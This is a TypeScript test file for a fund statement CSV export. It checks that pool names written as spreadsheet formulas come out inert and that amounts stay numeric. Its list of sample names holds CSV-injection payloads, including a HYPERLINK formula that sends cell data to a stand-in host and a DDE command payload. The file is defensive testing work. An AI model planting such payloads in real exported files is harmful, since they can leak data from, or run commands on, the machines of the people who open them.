import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { statementCsv } from './statementCsv.ts';
import type { StatementLineModel } from './statements.ts';

// Names a manager could give a pool, each one a formula in some spreadsheet or locale.
const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  'Fund;=1+1',
  'Fund,=1+1',
  'Fund;  @SUM(A1)',
  'Fund\n=1+1',
  'He said "=1+1"',
  'Plain name',
];

const FORMULA_START = /^[=+\-@\t\r\n\0\uFF1D\uFF0B\uFF0D\uFF20]/;
const DECIMAL = /^-?\d+(\.\d+)?$/;

function line(poolName: string, n: number): StatementLineModel {
  return {
    poolId: `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`,
    poolName,
    currency: 'USD',
    opening: 0n,
    contributions: 125_050n,
    distributions: -1_250n,
    fees: -7n,
    withdrawals: 0n,
    proceeds: 3_000n,
    carry: 200n,
    closing: -123_456n,
    returnOfCapital: 1_000n,
    preferredReturn: 200n,
    profitShare: 50n,
    nav: { share: 4_321n, date: '2026-06-30' },
  };
}

const csv = statementCsv({
  investorId: 'i-1',
  from: null,
  to: null,
  lines: HOSTILE_NAMES.map((name, n) => line(name, n)),
});

/** What a spreadsheet would take for a cell: a field stripped of its quotes and spaces. */
const cellStart = (field: string) => field.replace(/^[ "\u3000]+/, '');

describe('the statement CSV export', () => {
  it('reads back with a real CSV parser: every pool name exact but inert, every amount a number', () => {
    const [header, ...rows] = parse(csv, {
      delimiter: ',',
      record_delimiter: '\r\n',
    }) as string[][];
    expect(header).toEqual([
      'pool_id',
      'pool_name',
      'currency',
      'opening_balance',
      'contributions',
      'distributions',
      'fees',
      'withdrawals',
      'closing_balance',
      'proceeds',
      'carry',
      'return_of_capital',
      'preferred_return',
      'profit_share',
      'pro_rata_distributions',
      'nav_share',
      'nav_date',
    ]);
    expect(rows).toHaveLength(HOSTILE_NAMES.length);
    rows.forEach((row, n) => {
      const name = row[1]!;
      expect(name.replaceAll("'", '')).toBe(HOSTILE_NAMES[n]!.replaceAll("'", ''));
      for (const cell of row.slice(0, 3)) expect(cell).not.toMatch(FORMULA_START);
      expect(row.slice(3)).toEqual([
        '0.00',
        '1250.50',
        '-12.50',
        '-0.07',
        '0.00',
        '-1234.56',
        '30.00',
        '2.00',
        '10.00',
        '2.00',
        '0.50',
        '-25.00',
        '43.21',
        '2026-06-30',
      ]);
      for (const amount of row.slice(3, -1)) expect(Number.isFinite(Number(amount))).toBe(true);
    });
  });

  it('quotes every text cell and leaves amounts bare, so negative amounts stay numbers', () => {
    const lines = csv.split('\r\n').filter(Boolean);
    expect(lines[0]).toBe(
      '"pool_id","pool_name","currency","opening_balance","contributions","distributions","fees","withdrawals","closing_balance","proceeds","carry","return_of_capital","preferred_return","profit_share","pro_rata_distributions","nav_share","nav_date"',
    );
    expect(lines.at(-1)).toBe(
      '"00000000-0000-4000-8000-000000000014","Plain name","USD",0.00,1250.50,-12.50,-0.07,0.00,-1234.56,30.00,2.00,10.00,2.00,0.50,-25.00,43.21,"2026-06-30"',
    );
  });

  it('leaves the NAV share and its date empty for a pool without a valuation by the period end', () => {
    const unvalued = statementCsv({
      investorId: 'i-1',
      from: null,
      to: null,
      lines: [{ ...line('Plain name', 1), nav: null }],
    });
    expect(unvalued.split('\r\n')[1]).toMatch(/,-25\.00,"",""$/);
  });

  for (const delimiter of [',', ';', '\t']) {
    it(`starts no cell with a formula for a spreadsheet that splits on ${JSON.stringify(delimiter)} and ignores quotes`, () => {
      const records = parse(csv, {
        delimiter,
        quote: false,
        record_delimiter: ['\r\n', '\n', '\r'],
        relax_column_count: true,
      }) as string[][];
      const formulas = records
        .flat()
        .filter((field) => !DECIMAL.test(field) && FORMULA_START.test(cellStart(field)));
      expect(formulas).toEqual([]);
    });
  }
});
